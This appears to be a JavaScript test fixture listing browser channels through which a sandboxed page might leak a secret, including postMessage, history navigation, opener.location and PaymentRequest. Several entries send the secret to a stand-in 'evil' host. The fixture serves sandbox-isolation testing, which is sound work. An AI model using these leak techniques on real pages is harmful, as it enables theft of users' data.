// To another page of the browser, to another program, to a device.
const there = (name) => [name, `return Boolean(${name})`];
export const family = 'messages';
export const ways = [
  ['BroadcastChannel', 'return Boolean(new BroadcastChannel("k"))'],
  ['history.back to the page before', 'window.name = secret; history.back()', { from: 'evil' }],
  ['history.go to the page before', 'window.name = secret; history.go(-1)', { from: 'evil' }],
  ['navigation.back to the page before', 'navigation.back()', { from: 'evil' }],
  ['navigation.traverseTo the page before', 'navigation.traverseTo(navigation.entries()[0].key)', { from: 'evil' }],
  ['opener.postMessage', 'opener.postMessage(secret, "*")', { from: 'opener', on: 'http' }],
  ['the source of a message', 'addEventListener("message", (e) => e.source.postMessage(secret, "*"))', { from: 'opener', on: 'http' }],
  ['the source of a message, by onmessage', 'onmessage = (e) => e.source.postMessage(secret, "*")', { from: 'opener', on: 'http' }],
  ['the port in a message', 'addEventListener("message", (e) => e.ports[0].postMessage(secret), true)', { from: 'opener', on: 'http' }],
  ['the stream in a message', 'addEventListener("message", async (e) => { const w = e.data.getWriter(); await w.write(secret); })', { from: 'opener', on: 'http' }],
  ['opener.location', 'opener.location = `${evil}/?${secret}`', { from: 'opener', on: 'http' }],
  ['window.close', 'close(); await new Promise((r) => setTimeout(r, 300))', { from: 'opener', on: 'http' }],
  ['a start inside another page', 'return document.querySelectorAll("textarea").length > 0', { from: 'frame', on: 'http' }],
  ['parent.postMessage, once the app has started', 'if (document.querySelector("textarea")) parent.postMessage(secret, "*")', { from: 'frame', on: 'http' }],
  ['chrome.runtime', 'return typeof chrome.runtime.sendMessage === "function"'],
  ['webkit.messageHandlers', 'return Boolean(window.webkit.messageHandlers)'],
  ['Notification', 'return typeof Notification === "function"'],
  ['PaymentRequest', 'return Boolean(new PaymentRequest([{ supportedMethods: `${evil}/?${secret}` }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }))'],
  ['PresentationRequest', 'return Boolean(new PresentationRequest(`${evil}/?${secret}`))'],
  ['speechSynthesis', 'return typeof speechSynthesis.speak === "function"'],
  ['SpeechRecognition', 'return Boolean(new (window.SpeechRecognition || webkitSpeechRecognition)())'],
  ['AudioContext', 'return Boolean(new AudioContext())'],
  ['EyeDropper', 'return Boolean(new EyeDropper())'],
  ['IdleDetector', 'return Boolean(IdleDetector.requestPermission)'],
  ['IdentityProvider', 'return Boolean(IdentityProvider)'],
  ['PublicKeyCredential', 'return Boolean(PublicKeyCredential)'],
  ['DOMImplementation.prototype.createDocument', 'return typeof DOMImplementation.prototype.createDocument === "function"'],
  ['Translator', 'return Boolean(Translator)'],
  ['LanguageModel', 'return Boolean(LanguageModel)'],
  ...['share', 'geolocation', 'mediaDevices', 'credentials', 'bluetooth', 'usb', 'serial', 'hid', 'presentation', 'xr', 'gpu', 'mediaSession', 'requestMIDIAccess', 'requestMediaKeySystemAccess', 'vibrate', 'getUserMedia', 'protectedAudience', 'contacts']
    .map((name) => there(`navigator.${name}`)),
  ...['getScreenDetails', 'queryLocalFonts', 'fence', 'cookieStore', 'trustedTypes']
    .map((name) => there(`window.${name}`)),
  ...['requestStorageAccess', 'requestStorageAccessFor', 'browsingTopics', 'hasPrivateToken', 'hasRedemptionRecord', 'domain', 'mozSetImageElement']
    .map((name) => there(`document.${name}`)),
];
